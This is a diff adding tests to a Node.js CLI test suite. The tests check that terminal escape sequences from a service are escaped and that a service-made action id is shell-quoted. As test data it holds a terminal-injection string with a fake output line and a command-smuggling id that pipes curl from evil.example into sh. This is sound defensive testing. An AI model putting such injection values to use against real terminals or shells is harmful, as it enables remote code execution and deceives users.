@@ -8,7 +8,7 @@ import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
-import { startEmulator, seedRuns, cancelledIds, getLog, injectFaults, freshToken, setBulkSpeed } from './helpers.mjs';
+import { startEmulator, seedRuns, cancelledIds, getLog, injectFaults, freshToken, setBulkSpeed, seedActions } from './helpers.mjs';
 import { leakIn } from './scenarios.mjs';
 
 const app = fileURLToPath(new URL('.', import.meta.url));
@@ -495,4 +495,50 @@ test('in a real terminal the progress bar is drawn in place and cleared at the e
   assert.match(screen, /\r\[#{24}\] pass 1 · request 3\/3 · 2,500 run\(s\) cancelled\x1b\[K\r\x1b\[KCancelled 2,500 run\(s\)/);
   assert.equal(leakIn(screen, token), undefined);
   assert.equal((await cancelledIds(emulator.url, token)).length, 2_500);
+});
+
+/** Characters a terminal acts on rather than shows: C0 (but the newline), DEL, C1, bidi controls. */
+const TERMINAL_CONTROLS = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
+
+test('service text is shown escaped: ESC, OSC, C1 and bidi controls in actions, watch and errors never reach the terminal raw', async () => {
+  const token = await account();
+  const hostile = '\x1b[2J\x1b]0;pwned\x07\u009b31m\u202eevil';
+  const fake = '\n0 run(s) matched, nothing cancelled';
+  const action = {
+    actionId: `ba_${hostile}`, kind: 'cancel', state: 'FINISHED', total: 1, processed: 1,
+    createdAt: Date.now(), completedAt: Date.now(), filter: { label: [`${hostile}${fake}`], [`x${hostile}`]: ['v'] },
+  };
+  await seedActions(emulator.url, token, [action]);
+  for (const args of [['actions'], ['actions', '--json']]) {
+    const { code, stdout, stderr } = await cli(args, { token });
+    assert.equal(code, 0, stderr);
+    assert.doesNotMatch(stdout + stderr, TERMINAL_CONTROLS, args.join(' '));
+    assert.ok(!(stdout + stderr).split('\n').includes('0 run(s) matched, nothing cancelled'), 'no fake line');
+    assert.deepEqual(JSON.parse(args.includes('--json') ? stdout : '{"bulkActions":[]}').bulkActions.map((a) => a.actionId),
+      args.includes('--json') ? [action.actionId] : [], 'JSON keeps the value, escaped only as JSON');
+  }
+  assert.match((await cli(['actions'], { token })).stdout, /ba_\\x1b\[2J\\x1b\]0;pwned\\x07\\u009b31m\\u202eevil/);
+  // watch: the answer's id and filter (a service may answer for another id than asked).
+  await injectFaults(emulator.url, token, [{ status: 200, body: action }]);
+  const watched = await cli(['watch', 'ba_1'], { token });
+  assert.equal(watched.code, 0, watched.stderr);
+  assert.doesNotMatch(watched.stdout + watched.stderr, TERMINAL_CONTROLS);
+  // An error's text from the service.
+  await injectFaults(emulator.url, token, [{ status: 404, body: { error: `gone${hostile}` } }]);
+  const missing = await cli(['watch', 'ba_1'], { token });
+  assert.equal(missing.code, 6, missing.stderr);
+  assert.doesNotMatch(missing.stdout + missing.stderr, TERMINAL_CONTROLS);
+  assert.match(missing.stderr, /gone.*\\u202eevil/);
+});
+
+test('the follow-up command of --async quotes the service-made action id for the shell', async () => {
+  const token = await account();
+  const id = 'x;curl${IFS}evil.example|sh;';
+  await injectFaults(emulator.url, token, [{ status: 200, body: { actionId: id } }]);
+  const started = await cli(['--label', 'nightly', '--async', '--yes'], { token });
+  assert.equal(started.code, 0, started.stderr);
+  const [, command] = /Follow it with: (.*)\n/.exec(started.stdout);
+  // What a shell makes of the printed line: the program, `watch` and the id as one word.
+  const words = execFileSync('sh', ['-c', `set -- ${command}; printf '%s\\n' "$@"`], { encoding: 'utf8' }).trimEnd().split('\n');
+  assert.deepEqual(words.slice(-2), ['watch', id]);
 });
